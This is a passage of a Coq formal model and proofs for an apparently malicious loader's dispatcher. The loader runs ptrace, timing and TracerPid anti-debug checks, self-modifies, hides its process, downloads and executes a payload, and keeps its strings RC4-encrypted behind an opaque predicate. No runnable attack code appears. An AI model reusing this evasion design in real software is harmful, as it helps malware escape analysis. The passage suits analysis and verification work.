  {| _rk := _rk s1; _key_ready := _key_ready s1; _sm_flag := _sm_flag s1;
     n_malloc := S (n_malloc s1); n_time := n_time s1; n_fork := n_fork s1;
     n_mprotect := n_mprotect s1;
     ds_null := (if os_malloc o (n_malloc s1) then ds_null s1
                 else S (ds_null s1));
     written := written s1; trace := trace s1 |}.

(** Whether the next [k] allocations, from the [n]-th on, all succeed. *)
Fixpoint allocs_ok (o : oracle) (n k : nat) : bool :=
  match k with
  | O => true
  | S k' => os_malloc o n && allocs_ok o (S n) k'
  end.

(** What a call may change: the key buffer keeps its size, the trace is
    left alone, and a raised [_sm_flag] stays raised. *)
Definition frame (s s' : pstate) : Prop :=
  WF s' /\ trace s' = trace s /\ (_sm_flag s = 1 -> _sm_flag s' = 1).

(** The process is the one [main] was started in, not a child it forked:
    no [fork] returns 0 in it. *)
Definition parent (o : oracle) : Prop := forall n, os_fork o n <> 0.

(** [m] returns to its caller. *)
Definition returns {A : Type} (m : M A) : Prop :=
  forall o s, WF s -> exists r s', m o s = Ret r s' /\ frame s s'.

(** [m] returns, or it runs on in a forked child that ends in [exec] or
    [_exit]. *)
Definition returns_or_child {A : Type} (m : M A) : Prop :=
  forall o s, WF s ->
    (exists r s', m o s = Ret r s' /\ frame s s')
    \/ (exists h s', m o s = Halt h s' /\ h <> Undefined /\ frame s s'
                     /\ ~ parent o).

(** What a pass of the loop may change: as [frame], except that the
    events [evs] are recorded. *)
Definition pass (s s' : pstate) (evs : list event) : Prop :=
  WF s' /\ trace s' = trace s ++ evs /\ (_sm_flag s = 1 -> _sm_flag s' = 1).

(** [m] ends the forked child it runs in. *)
Definition halts {A : Type} (m : M A) : Prop :=
  forall o s, WF s ->
    exists h s', m o s = Halt h s' /\ h <> Undefined /\ frame s s'.

(** *** The dispatcher seen through its trace *)

Inductive anext : Type :=
| AGoto (state retval : Z)
| AReturn (code : Z)
| AHalt (h : halt).

(** [astep retval state evs nx]: one pass through the [switch] entered in
    [state] records the events [evs] and leaves the loop as [nx] says.  The
    values the called functions return are not constrained. *)
Inductive astep (rv : Z) : Z -> list event -> anext -> Prop :=
| as_init :
    astep rv ST_INIT [EvState ST_INIT] (AGoto ST_ANTI_DEBUG_1 rv)
| as_ad1 r :
    astep rv ST_ANTI_DEBUG_1
      [EvState ST_ANTI_DEBUG_1; EvCall F_ad_ptrace; EvRet F_ad_ptrace r]
      (AGoto (if r =? 0 then ST_ANTI_DEBUG_2 else ST_EXIT_FAIL) rv)
| as_ad2 r :
    astep rv ST_ANTI_DEBUG_2
      [EvState ST_ANTI_DEBUG_2; EvCall F_ad_timing; EvRet F_ad_timing r]
      (AGoto (if r =? 0 then ST_ANTI_DEBUG_3 else ST_EXIT_FAIL) rv)
| as_ad3 r :
    astep rv ST_ANTI_DEBUG_3
      [EvState ST_ANTI_DEBUG_3; EvCall F_ad_proc; EvRet F_ad_proc r]
      (AGoto (if r =? 0 then ST_SELF_MODIFY else ST_EXIT_FAIL) rv)
| as_self_modify r :
    astep rv ST_SELF_MODIFY
      [EvState ST_SELF_MODIFY; EvCall F_self_modify; EvDone F_self_modify;
       EvCall F_sm_check; EvRet F_sm_check r]
      (AGoto (if r =? 0 then ST_EXIT_FAIL else ST_CHECK_OS) rv)
| as_check_os r :
    astep rv ST_CHECK_OS
      [EvState ST_CHECK_OS; EvCall F_check_os; EvRet F_check_os r]
      (AGoto (if r =? 0 then ST_EXIT_FAIL else ST_CHECK_MARKER) rv)
| as_check_marker r :
    astep rv ST_CHECK_MARKER
      [EvState ST_CHECK_MARKER; EvCall F_check_marker; EvRet F_check_marker r]
      (AGoto (if r =? 0 then ST_HIDE_PROC else ST_EXIT_FAIL) rv)
| as_hide_proc :
    astep rv ST_HIDE_PROC
      [EvState ST_HIDE_PROC; EvCall F_hide_proc; EvDone F_hide_proc]
      (AGoto ST_DOWNLOAD rv)
| as_download r :
    astep rv ST_DOWNLOAD
      [EvState ST_DOWNLOAD; EvCall F_download; EvRet F_download r]
      (AGoto (if r =? 0 then ST_EXEC else ST_EXIT_FAIL) rv)
| as_download_child h :
    h <> Undefined ->
    astep rv ST_DOWNLOAD [EvState ST_DOWNLOAD; EvCall F_download] (AHalt h)
| as_exec r :
    astep rv ST_EXEC
      [EvState ST_EXEC; EvCall F_exec_payload; EvRet F_exec_payload r]
      (AGoto ST_EXIT_OK (if r =? 0 then 0 else rv))
| as_exec_child h :
    h <> Undefined ->
    astep rv ST_EXEC [EvState ST_EXEC; EvCall F_exec_payload] (AHalt h)
| as_exit_ok :
    astep rv ST_EXIT_OK [EvState ST_EXIT_OK] (AReturn rv)
| as_exit_fail :
    astep rv ST_EXIT_FAIL [EvState ST_EXIT_FAIL] (AReturn 1)
| as_default st :
    ~ In st all_states ->
    astep rv st [EvState st] (AReturn 1).

(** Passes chained until the loop is left. *)
Inductive arun : Z -> Z -> list event -> anext -> Prop :=
| arun_return st rv evs c :
    astep rv st evs (AReturn c) -> arun st rv evs (AReturn c)
| arun_halt st rv evs h :
    astep rv st evs (AHalt h) -> arun st rv evs (AHalt h)
| arun_goto st rv evs st' rv' evs' fin :
    astep rv st evs (AGoto st' rv') -> arun st' rv' evs' fin ->
    arun st rv (evs ++ evs') fin.

(** The abstract outcome [nx] is what the concrete pass [x] did. *)
Definition refines (o : oracle) (x : result next) (nx : anext) : Prop :=
  match nx with
  | AGoto st' rv' => exists s', x = Ret (Goto st' rv') s'
  | AReturn c => exists s', x = Ret (Return c) s'
  | AHalt h => (exists s', x = Halt h s') /\ ~ parent o
  end.

(** The abstract outcome [fin] is how the concrete run [r] ended. *)
Definition ends_as (o : oracle) (r : result Z) (fin : anext) : Prop :=
  match fin with
  | AGoto _ _ => False
  | AReturn c => exists s', r = Ret c s'
  | AHalt h => (exists s', r = Halt h s') /\ h <> Undefined /\ ~ parent o
  end.

(** How far a state is from the end of the chain
    [ST_INIT, ST_ANTI_DEBUG_1, ..., ST_EXEC, ST_EXIT_OK]. *)
Definition rank (st : Z) : nat :=
  if st =? ST_INIT then 11
  else if st =? ST_ANTI_DEBUG_1 then 10
  else if st =? ST_ANTI_DEBUG_2 then 9
  else if st =? ST_ANTI_DEBUG_3 then 8
  else if st =? ST_SELF_MODIFY then 7
  else if st =? ST_CHECK_OS then 6
  else if st =? ST_CHECK_MARKER then 5
  else if st =? ST_HIDE_PROC then 4
  else if st =? ST_DOWNLOAD then 3
  else if st =? ST_EXEC then 2
  else 1.

Definition final_state {A : Type} (r : result A) : pstate :=
  match r with
  | Ret _ s => s
  | Halt _ s => s
  end.

(** The trace and the exit code of a finished run of [main]. *)
Definition run_trace (x : option (result Z)) : list event :=
  match x with
  | Some r => trace (final_state r)
  | None => []
  end.

Definition exit_code (x : option (result Z)) : option Z :=
  match x with
  | Some (Ret c _) => Some c
  | _ => None
  end.

(** The dispatcher states a trace passes through, in order. *)
Definition visited (tr : list event) : list Z :=
  omap (fun e => match e with EvState st => Some st | _ => None end) tr.

(** The identity table [0, 1, ..., 255]. *)
Definition identity_table : list Z := seqZ 0 256.

Definition is_byte (b : Z) : Prop := 0 <= b < 256.

(** Standard test vector: key "Key", plaintext "Plaintext". *)
Example rc4_test_vector :
  match _rc4i (mk_rc4 (replicate 256 7) 3 5) [75; 101; 121] 3 with
  | Some c1 => snd <$> _rc4x c1 [80; 108; 97; 105; 110; 116; 101; 120; 116] 9
  | None => None
  end = Some [187; 243; 22; 232; 217; 64; 175; 10; 211].
Proof. vm_compute. reflexivity. Qed.

(** ** Vocabulary of the further properties *)

(** The functions [main] called, in the order of the calls. *)
Definition calls (tr : list event) : list fn :=
  omap (fun e => match e with EvCall f => Some f | _ => None end) tr.

(** The order in which the cases of the [switch] chain the functions. *)
Definition call_order : list fn :=
  [F_ad_ptrace; F_ad_timing; F_ad_proc; F_self_modify; F_sm_check; F_check_os;
   F_check_marker; F_hide_proc; F_download; F_exec_payload].

(** The bytes of a string literal. *)
Definition bytes (s : string) : list Z :=
  (fun a => Z.of_nat (Ascii.nat_of_ascii a)) <$> String.list_ascii_of_string s.

(** The key is still masked, or it has been recovered as it should. *)
Definition key_good (s : pstate) : Prop :=
  WF s /\ (_key_ready s = 0 \/ _rk s = recovered_key).

(** What [_ds] computes in the buffer [malloc] gave it, with the key [rk]. *)
Definition decode_with (rk : list Z) (off len : Z) : option (list Z) :=
  match memcpy_st (replicate (Z.to_nat (len + 1)) 0) off len with
  | None => None
  | Some buf1 =>
      match _rc4i {| c_S := replicate 256 0; c_i := 0; c_j := 0 |} rk KS_LEN with
      | None => None
      | Some ctx1 =>
          match _rc4x ctx1 buf1 len with
          | None => None
          | Some (_, buf2) => Some (wr buf2 len 0)
          end
      end
  end.

(** The decoded buffer of an entry of the table. *)
Definition plaintext (e : Z * Z) : list Z :=
  default [] (decode_with recovered_key (fst e) (snd e)).

(** [long elapsed] of [_ad_timing], from the two clock readings. *)
Definition elapsed_us (t1 t2 : timeval) : Z :=
  wrap_s64 (wrap_s64 (wrap_s64 (tv_sec t2 - tv_sec t1) * 1000000)
            + wrap_s64 (tv_usec t2 - tv_usec t1)).

(** [WIFEXITED(status) && WEXITSTATUS(status) == 0] *)
Definition exited_ok (status : Z) : bool :=
  WIFEXITED status && (WEXITSTATUS status =? 0).

(** From [s] to [s']: the key stays good, and [dm] allocations, [dt] clock
    readings and [df] forks have been made. *)
Definition steps (s s' : pstate) (dm dt df : nat) : Prop :=
  key_good s'
  /\ n_malloc s' = (n_malloc s + dm)%nat
  /\ n_time s' = (n_time s + dt)%nat
  /\ n_fork s' = (n_fork s + df)%nat.

(** What the answers of the operating system must be for a run, in the
    process [main] was started in, to get through each stage. *)
Definition clear_ptrace (o : oracle) : bool :=
  negb (os_ptrace o PTRACE_TRACEME =? -1).
Definition clear_timing (o : oracle) : bool :=
  negb (500000 <? elapsed_us (os_gettimeofday o 0) (os_gettimeofday o 1)).
Definition clear_proc (o : oracle) : bool :=
  (if allocs_ok o 0 2 then
     match os_fopen o (bytes "/proc/self/status") with
     | Some lines => scan_status lines (bytes "TracerPid")
     | None => 0
     end
   else 0) =? 0.
Definition self_checked (o : oracle) : bool :=
  os_mprotect o 0 (Z.lor (Z.lor PROT_READ PROT_WRITE) PROT_EXEC) =? 0.
Definition on_linux (o : oracle) : bool :=
  (os_uname o =? 0) && os_malloc o 2
  && bool_decide (os_sysname o = bytes "Linux").
Definition not_marked (o : oracle) : bool :=
  negb (os_malloc o 3 && (os_stat o (bytes "/tmp/ghost_shell.c") =? 0)).
Definition fetched (o : oracle) : bool :=
  allocs_ok o 5 5 && negb (os_fork o 0 <? 0)
  && exited_ok (os_waitpid o (os_fork o 0)).
Definition executed (o : oracle) : bool :=
  allocs_ok o 10 3 && negb (os_fork o 1 <? 0)
  && exited_ok (os_waitpid o (os_fork o 1)).

Definition succeeds (o : oracle) : bool :=
  clear_ptrace o && clear_timing o && clear_proc o && self_checked o
  && on_linux o && not_marked o && fetched o && executed o.

(** [s0] is [s] with a longer trace. *)
Definition same_but_trace (s s0 : pstate) : Prop :=
  _rk s0 = _rk s /\ _key_ready s0 = _key_ready s /\ _sm_flag s0 = _sm_flag s
  /\ n_malloc s0 = n_malloc s /\ n_time s0 = n_time s /\ n_fork s0 = n_fork s
  /\ n_mprotect s0 = n_mprotect s /\ written s0 = written s.

(** From [s] to [s'] nothing has touched [_sm_flag], and no [mprotect] has
    been issued. *)
Definition same_flag (s s' : pstate) : Prop :=
  _sm_flag s' = _sm_flag s /\ n_mprotect s' = n_mprotect s.

(** From [s] to [s'] no event has been recorded, no [fork] and no [write]
    issued. *)
Definition undisturbed (s s' : pstate) : Prop :=
  trace s' = trace s /\ n_fork s' = n_fork s /\ written s' = written s.

(** The state [fork] leaves behind. *)
Definition after_fork (s : pstate) : pstate :=
  {| _rk := _rk s; _key_ready := _key_ready s; _sm_flag := _sm_flag s;
     n_malloc := n_malloc s; n_time := n_time s; n_fork := S (n_fork s);
     n_mprotect := n_mprotect s; ds_null := ds_null s;
     written := written s; trace := trace s |}.

(** [PROT_READ | PROT_WRITE | PROT_EXEC], the protection [_self_modify]
    asks for first. *)
Definition PROT_RWX : Z := Z.lor (Z.lor PROT_READ PROT_WRITE) PROT_EXEC.

(** * Proofs

    ** Loops, bytes and tables *)

Section for_loop.
Context {A : Type} (body : A -> Z -> option A) (P : Z -> A -> Prop).

Lemma for_loop_inv (n : nat) (i : Z) (a : A) :
  P i a ->
  (forall k x, i <= k < i + Z.of_nat n -> P k x ->
     exists x', body x k = Some x' /\ P (k + 1) x') ->
  exists a', for_loop n i body a = Some a' /\ P (i + Z.of_nat n) a'.
Proof.
  revert i a. induction n as [|n IH]; intros i a Hi Hstep.
  - exists a. split; [reflexivity|]. replace (i + Z.of_nat 0) with i by lia. exact Hi.
  - destruct (Hstep i a ltac:(lia) Hi) as (a1 & Hb & Hp).
    destruct (IH (i + 1) a1 Hp) as (a2 & Hl & Hq).
    { intros k x Hk. apply Hstep. lia. }
    exists a2. split.
    + simpl. rewrite Hb. exact Hl.
    + replace (i + Z.of_nat (S n)) with (i + 1 + Z.of_nat n) by lia. exact Hq.
Qed.
End for_loop.

Lemma xor8_cancel (a b : Z) : is_byte a -> xor8 (xor8 a b) b = a.
Proof.
  intros [Ha0 Ha1]. unfold xor8.
  apply Z.bits_inj'. intros n Hn.
  change 255 with (Z.ones 8).
  rewrite !Z.land_spec, !Z.lxor_spec, !Z.land_spec, !Z.lxor_spec.
  rewrite Z.testbit_ones_nonneg by lia.
  destruct (Z.ltb_spec n 8) as [Hlt|Hge].
  - rewrite !andb_true_r. rewrite xorb_assoc, xorb_nilpotent, xorb_false_r. reflexivity.
  - rewrite !andb_false_r. symmetry.
    rewrite <- (Z.mod_small a (2 ^ 8)) by (change (2 ^ 8) with 256; lia).
    apply Z.mod_pow2_bits_high. lia.
Qed.

Lemma xor8_byte (a b : Z) : is_byte (xor8 a b).
Proof.
  unfold xor8, is_byte. change 255 with (Z.ones 8). rewrite Z.land_ones by lia.
  change (2 ^ 8) with 256. apply Z.mod_pos_bound. lia.
Qed.

Lemma land_255_range (x : Z) : 0 <= Z.land x 255 < 256.
Proof.
  change 255 with (Z.ones 8). rewrite Z.land_ones by lia.
  change (2 ^ 8) with 256. apply Z.mod_pos_bound. lia.
Qed.

Lemma rd_lookup (a : list Z) (n : Z) (x : Z) :
  a !! Z.to_nat n = Some x -> rd a n = x.
Proof. unfold rd. intros ->. reflexivity. Qed.

Lemma lookup_rd (a : list Z) (n : Z) :
  (Z.to_nat n < length a)%nat -> a !! Z.to_nat n = Some (rd a n).
Proof.
  intros H. destruct (lookup_lt_is_Some_2 a _ H) as [x Hx].
  rewrite Hx. f_equal. symmetry. by apply rd_lookup.
Qed.

Lemma length_wr (a : list Z) n v : length (wr a n v) = length a.
Proof. apply length_insert. Qed.

(** Exchanging two entries of a table permutes it. *)
Lemma swap_Permutation (s : list Z) (i j : Z) :
  (Z.to_nat i < length s)%nat -> (Z.to_nat j < length s)%nat ->
  wr (wr s i (rd s j)) j (rd s i) ≡ₚ s.
Proof.
  intros Hi Hj. unfold wr.
  pose proof (lookup_rd s i Hi) as Ei. pose proof (lookup_rd s j Hj) as Ej.
  set (a := Z.to_nat i) in *. set (b := Z.to_nat j) in *.
  apply Permutation_inj. split; [by rewrite !length_insert|].
  exists (fun k => if decide (k = b) then a else if decide (k = a) then b else k).
  split.
  - intros x y. repeat case_decide; intros; subst; congruence.
  - intros k. destruct (decide (k = b)) as [->|Hb].
    + rewrite list_lookup_insert_eq by (by rewrite length_insert). by rewrite Ei.
    + rewrite list_lookup_insert_ne by done.
      destruct (decide (k = a)) as [->|Ha].
      * rewrite list_lookup_insert_eq by done. by rewrite Ej.
      * by rewrite list_lookup_insert_ne.
Qed.

(** ** The cipher *)

Lemma rc4i_fill_loop (s : list Z) :
  length s = 256%nat -> for_loop 256 0 rc4i_fill s = Some identity_table.
Proof.
  intros Hlen.
  destruct (for_loop_inv rc4i_fill
    (fun k t => length t = 256%nat /\
       forall m : nat, Z.of_nat m < k -> t !! m = Some (Z.of_nat m)) 256 0 s)
    as (t & Ht & Hl & Hm).
  - split; [done|]. intros m Hm. lia.
  - intros k x Hk [Hx Hm]. eexists. split; [reflexivity|].
    unfold wr. split; [by rewrite length_insert|].
    intros m Hlt. destruct (decide (m = Z.to_nat k)) as [->|Hne].
    + rewrite list_lookup_insert_eq by lia.
      f_equal; lia.
    + rewrite list_lookup_insert_ne by done. apply Hm. lia.
  - rewrite Ht. f_equal. apply list_eq. intros m. unfold identity_table.
    destruct (decide (m < 256)%nat) as [Hlt|Hge].
    + rewrite Hm by lia. rewrite lookup_seqZ_lt by lia. reflexivity.
    + rewrite lookup_seqZ_ge by lia. apply lookup_ge_None. lia.
Qed.

Lemma rc4i_mix_loop (k : list Z) (s : list Z) :
  k <> [] -> s ≡ₚ identity_table ->
  exists s' j', for_loop 256 0 (rc4i_mix k (Z.of_nat (length k))) (s, 0) = Some (s', j')
                /\ s' ≡ₚ identity_table.
Proof.
  intros Hk Hs.
  assert (Hkl : 0 < Z.of_nat (length k)) by (destruct k; [done|simpl; lia]).
  destruct (for_loop_inv (rc4i_mix k (Z.of_nat (length k)))
    (fun _ st => fst st ≡ₚ identity_table) 256 0 (s, 0)) as ([s' j'] & Hl & Hp).
  - exact Hs.
  - intros i [t j] Hi Ht. simpl in Ht. unfold rc4i_mix.
    destruct (Z.eqb_spec (Z.of_nat (length k)) 0) as [E|_]; [lia|].
    pose proof (Z.rem_bound_pos i (Z.of_nat (length k)) ltac:(lia) Hkl) as Hr.
    destruct (lookup_lt_is_Some_2 k (Z.to_nat (Z.rem i (Z.of_nat (length k)))) ltac:(lia))
      as [kb ->].
    eexists. split; [reflexivity|]. simpl.
    rewrite swap_Permutation; [exact Ht| |].
    + rewrite (Permutation_length Ht). unfold identity_table. rewrite length_seqZ. lia.
    + rewrite (Permutation_length Ht). unfold identity_table. rewrite length_seqZ.
      pose proof (land_255_range (j + rd t i + kb)). lia.
  - exists s', j'. split; [exact Hl|exact Hp].
Qed.

Lemma rc4i_spec (c : _rc4) (k : list Z) :
  length (c_S c) = 256%nat -> k <> [] ->
  exists s, _rc4i c k (Z.of_nat (length k)) = Some (mk_rc4 s 0 0) /\ s ≡ₚ identity_table.
Proof.
  intros Hc Hk. unfold _rc4i. rewrite (rc4i_fill_loop _ Hc).
  destruct (rc4i_mix_loop k identity_table Hk) as (s' & j' & -> & Hp); [done|].
  by exists s'.
Qed.

Lemma rc4i_fresh (c c' : _rc4) (k : list Z) (kl : Z) :
  length (c_S c) = 256%nat -> length (c_S c') = 256%nat ->
  _rc4i c k kl = _rc4i c' k kl.
Proof. intros H H'. unfold _rc4i. by rewrite !rc4i_fill_loop. Qed.

Lemma rc4x_next_Permutation (c : _rc4) :
  c_S c ≡ₚ identity_table -> c_S (rc4x_next c) ≡ₚ identity_table.
Proof.
  intros Hc. unfold rc4x_next. simpl.
  assert (length (c_S c) = 256%nat) as Hlen
    by (rewrite (Permutation_length Hc); unfold identity_table; by rewrite length_seqZ).
  rewrite swap_Permutation; [exact Hc| |]; rewrite Hlen.
  - pose proof (land_255_range (c_i c + 1)). lia.
  - pose proof (land_255_range (c_j c + rd (c_S c) (Z.land (c_i c + 1) 255))). lia.
Qed.

Lemma rc4x_run_Permutation (n : nat) (c : _rc4) :
  c_S c ≡ₚ identity_table -> c_S (rc4x_run n c) ≡ₚ identity_table.
Proof.
  intros Hc. induction n as [|n IH]; [exact Hc|].
  unfold rc4x_run. simpl. by apply rc4x_next_Permutation.
Qed.

(** What [_rc4x] computes: the state is advanced [l] rounds whatever the
    data, and byte [m] of the first [l] is combined with [keystream c m]. *)
Lemma rc4x_spec (c : _rc4) (d : list Z) (l : Z) :
  l <= Z.of_nat (length d) ->
  exists d', _rc4x c d l = Some (rc4x_run (Z.to_nat l) c, d')
    /\ length d' = length d
    /\ forall m : nat, d' !! m =
         if decide (m < Z.to_nat l)%nat then (fun b => xor8 b (keystream c m)) <$> d !! m
         else d !! m.
Proof.
  intros Hl. unfold _rc4x.
  destruct (for_loop_inv rc4x_body
    (fun k st => fst st = rc4x_run (Z.to_nat k) c /\ length (snd st) = length d /\
       forall m : nat, snd st !! m =
         if decide (m < Z.to_nat k)%nat then (fun b => xor8 b (keystream c m)) <$> d !! m
         else d !! m) (Z.to_nat l) 0 (c, d)) as ([c' d'] & Hrun & Hc & Hlen & Hd).
  - cbn [fst snd]. split; [done|]. split; [done|]. intros m. case_decide; [lia|done].
  - intros k [c1 d1] Hk (Hc1 & Hlen & Hd). cbn [fst snd] in *.
    pose proof (Hd (Z.to_nat k)) as Hdk. case_decide; [lia|].
    destruct (lookup_lt_is_Some_2 d (Z.to_nat k) ltac:(lia)) as [b Hb].
    rewrite Hb in Hdk. unfold rc4x_body. rewrite Hdk. eexists. split; [reflexivity|]. cbn [fst snd].
    replace (Z.to_nat (k + 1)) with (S (Z.to_nat k)) by lia.
    split; [by rewrite Hc1|]. unfold wr. split; [by rewrite length_insert|].
    intros m. destruct (decide (m = Z.to_nat k)) as [->|Hne].
    + rewrite list_lookup_insert_eq by lia. case_decide; [|lia].
      rewrite Hb. cbn [fmap option_fmap option_map]. unfold keystream. rewrite Hc1. reflexivity.
    + rewrite list_lookup_insert_ne by done. rewrite Hd.
      repeat case_decide; try done; lia.
  - cbn [fst snd] in *. exists d'. rewrite Hrun. replace (0 + Z.of_nat (Z.to_nat l)) with (Z.of_nat (Z.to_nat l)) in * by lia.
    rewrite Nat2Z.id in *. rewrite Hc. done.
Qed.

(** ** Parity, key recovery and decoding *)

(** Parity survives the reduction to 32 bits. *)
Lemma even_wrap_u32 (x : Z) : Z.even (wrap_u32 x) = Z.even x.
Proof.
  unfold wrap_u32. rewrite Z.mod_eq by lia.
  rewrite Z.even_sub, Z.even_mul. change (Z.even (2 ^ 32)) with true.
  simpl. by destruct (Z.even x).
Qed.

Lemma even_wrap_s32 (x : Z) : Z.even (wrap_s32 x) = Z.even x.
Proof.
  unfold wrap_s32. rewrite Z.mod_eq by lia.
  rewrite !Z.even_sub, Z.even_mul, Z.even_add.
  change (Z.even (2 ^ 32)) with true. change (Z.even (2 ^ 31)) with true.
  simpl. by destruct (Z.even x).
Qed.

Lemma rem2_even (y : Z) : (Z.rem y 2 =? 0) = Z.even y.
Proof.
  destruct (Z.even y) eqn:E.
  - apply Z.even_spec in E as [q ->]. rewrite Z.mul_comm, Z.rem_mul by lia. reflexivity.
  - apply Z.eqb_neq. intros H.
    pose proof (Z.quot_rem' y 2) as Q. rewrite H in Q.
    assert (Z.even y = true) as E' by (apply Z.even_spec; exists (y ÷ 2); lia).
    congruence.
Qed.

Lemma mod2_even (y : Z) : (y mod 2 =? 0) = Z.even y.
Proof. rewrite Zmod_even. by destruct (Z.even y). Qed.

Lemma recover_key_opaque (p : Z) :
  negb (wrap_u32 (wrap_u32 (p * p) + p) mod 2 =? 0) = false.
Proof.
  rewrite mod2_even, even_wrap_u32, Z.even_add, even_wrap_u32, Z.even_mul.
  by destruct (Z.even p).
Qed.

Lemma unmask_spec (m : Z) (rk : list Z) :
  length rk = 14%nat -> unmask m rk = Some ((fun b => xor8 b m) <$> _ks).
Proof.
  intros H. do 14 (destruct rk as [|? rk]; [discriminate H|]).
  destruct rk; [|discriminate H]. reflexivity.
Qed.

Lemma recover_key_eq (o : oracle) (s : pstate) :
  WF s -> _recover_key o s = Ret tt (after_recover s).
Proof.
  intros H. unfold _recover_key, after_recover, bind, get_key_ready, getpid, get_rk, ret.
  destruct (_key_ready s =? 0); [|reflexivity]. cbn [negb].
  rewrite recover_key_opaque. rewrite (unmask_spec _ _ H). reflexivity.
Qed.

Lemma WF_after_recover (s : pstate) : WF s -> WF (after_recover s).
Proof. unfold after_recover. by destruct (_key_ready s =? 0). Qed.

Lemma ds_spec (o : oracle) (s : pstate) (off len : Z) :
  WF s -> 0 <= off -> 0 <= len -> off + len <= 174 ->
  exists buf, length buf = Z.to_nat (len + 1)
    /\ _ds off len o s
       = Ret (if os_malloc o (n_malloc (after_recover s)) then Some buf else None)
             (after_ds o s).
Proof.
  intros H Ho Hl Hb. unfold _ds, bind. rewrite (recover_key_eq o s H).
  pose proof (WF_after_recover s H) as H1.
  set (s1 := after_recover s) in *.
  unfold malloc, after_ds. fold s1. cbv zeta.
  destruct (os_malloc o (n_malloc s1)).
  2:{ exists (replicate (Z.to_nat (len + 1)) 0).
      split; [by rewrite length_replicate|]. reflexivity. }
  unfold get_rk. cbv beta iota.
  set (s2 := {| _rk := _rk s1; _key_ready := _key_ready s1; _sm_flag := _sm_flag s1;
                n_malloc := S (n_malloc s1); n_time := n_time s1; n_fork := n_fork s1;
                n_mprotect := n_mprotect s1; ds_null := ds_null s1;
                written := written s1; trace := trace s1 |}).
  assert (exists buf1, memcpy_st (replicate (Z.to_nat (len + 1)) 0) off len = Some buf1
                       /\ length buf1 = Z.to_nat (len + 1)) as (buf1 & -> & Hb1).
  { unfold memcpy_st. rewrite length_replicate.
    change (Z.of_nat (length _st)) with 174.
    destruct (Z.leb_spec 0 off); [|lia]. destruct (Z.leb_spec 0 len); [|lia].
    destruct (Z.leb_spec (off + len) 174); [|lia].
    destruct (Z.leb_spec len (Z.of_nat (Z.to_nat (len + 1)))); [|lia].
    eexists. split; [reflexivity|].
    rewrite length_app, length_take, !length_drop, length_replicate.
    change (length _st) with 174%nat. lia. }
  change (_rk s2) with (_rk s1).
  destruct (rc4i_spec {| c_S := replicate 256 0; c_i := 0; c_j := 0 |} (_rk s1))
    as (t & Hi & _); [reflexivity| |].
  { intros E. unfold WF in H1. by rewrite E in H1. }
  unfold WF in H1. rewrite H1 in Hi. change (Z.of_nat 14) with KS_LEN in Hi. rewrite Hi.
  destruct (rc4x_spec (mk_rc4 t 0 0) buf1 len ltac:(lia)) as (buf2 & -> & Hb2 & _).
  exists (wr buf2 len 0). split; [|reflexivity].
  unfold wr. rewrite length_insert. lia.
Qed.

(** ** Every function returns *)

Lemma frame_refl (s : pstate) : WF s -> frame s s.
Proof. by intros H. Qed.

Lemma frame_trans (s1 s2 s3 : pstate) : frame s1 s2 -> frame s2 s3 -> frame s1 s3.
Proof.
  intros (_ & T1 & F1) (W2 & T2 & F2). split; [done|]. split; [congruence|auto].
Qed.

Lemma frame_WF (s s' : pstate) : frame s s' -> WF s'.
Proof. by intros [? _]. Qed.

Section combinators.
Context {A B : Type}.

Lemma returns_ret (a : A) : returns (ret a).
Proof. intros o s H. exists a, s. split; [reflexivity|by apply frame_refl]. Qed.

Lemma returns_bind (m : M A) (k : A -> M B) :
  returns m -> (forall a, returns (k a)) -> returns (bind m k).
Proof.
  intros Hm Hk o s H. destruct (Hm o s H) as (a & s1 & E1 & F1).
  destruct (Hk a o s1 (frame_WF _ _ F1)) as (b & s2 & E2 & F2).
  exists b, s2. unfold bind. rewrite E1. split; [exact E2|by eapply frame_trans].
Qed.

Lemma returns_or_child_bind (m : M A) (k : A -> M B) :
  returns m -> (forall a, returns_or_child (k a)) -> returns_or_child (bind m k).
Proof.
  intros Hm Hk o s H. destruct (Hm o s H) as (a & s1 & E1 & F1).
  unfold bind. rewrite E1.
  destruct (Hk a o s1 (frame_WF _ _ F1)) as [(b & s2 & E2 & F2)|(h & s2 & E2 & Hh & F2 & P)].
  - left. exists b, s2. split; [exact E2|by eapply frame_trans].
  - right. exists h, s2. split; [exact E2|]. split; [exact Hh|].
    split; [by eapply frame_trans|exact P].
Qed.

Lemma halts_bind (m : M A) (k : A -> M B) :
  returns m -> (forall a, halts (k a)) -> halts (bind m k).
Proof.
  intros Hm Hk o s H. destruct (Hm o s H) as (a & s1 & E1 & F1).
  unfold bind. rewrite E1.
  destruct (Hk a o s1 (frame_WF _ _ F1)) as (h & s2 & E2 & Hh & F2).
  exists h, s2. split; [exact E2|]. split; [exact Hh|by eapply frame_trans].
Qed.

Lemma returns_is_returns_or_child (m : M A) : returns m -> returns_or_child m.
Proof. intros Hm o s H. left. by apply Hm. Qed.
End combinators.

(** A call that only consults the oracle. *)
Lemma returns_query {A : Type} (q : oracle -> pstate -> A) :
  returns (fun o s => Ret (q o s) s).
Proof. intros o s H. exists (q o s), s. split; [reflexivity|by apply frame_refl]. Qed.

Lemma returns_getpid : returns getpid.
Proof. apply (returns_query (fun o _ => os_getpid o)). Qed.
Lemma returns_ptrace (req : Z) : returns (ptrace req).
Proof. apply (returns_query (fun o _ => os_ptrace o req)). Qed.
Lemma returns_fopen (p : list Z) : returns (fopen p).
Proof. apply (returns_query (fun o _ => os_fopen o (c_str p))). Qed.
Lemma returns_sys_open (p : list Z) : returns (sys_open p).
Proof. apply (returns_query (fun o _ => os_open o (c_str p))). Qed.
Lemma returns_uname : returns uname.
Proof. apply (returns_query (fun o _ => (os_uname o, os_sysname o))). Qed.
Lemma returns_stat (p : list Z) : returns (stat p).
Proof. apply (returns_query (fun o _ => os_stat o (c_str p))). Qed.
Lemma returns_waitpid (pid : Z) : returns (waitpid pid).
Proof. apply (returns_query (fun o _ => os_waitpid o pid)). Qed.
Lemma returns_sm_check : returns _sm_check.
Proof. apply (returns_query (fun _ s => _sm_flag s)). Qed.

Lemma returns_gettimeofday : returns gettimeofday.
Proof. intros o s H. eexists _, _. split; [reflexivity|]. by split. Qed.
Lemma returns_fork : returns fork.
Proof. intros o s H. eexists _, _. split; [reflexivity|]. by split. Qed.
Lemma returns_set_sm_flag : returns (set_sm_flag 1).
Proof. intros o s H. eexists _, _. split; [reflexivity|]. by split. Qed.
Lemma returns_mprotect (prot : Z) : returns (mprotect prot).
Proof. intros o s H. eexists _, _. split; [reflexivity|]. by split. Qed.
Lemma returns_sys_write (fd : Z) (buf : list Z) : returns (sys_write fd buf).
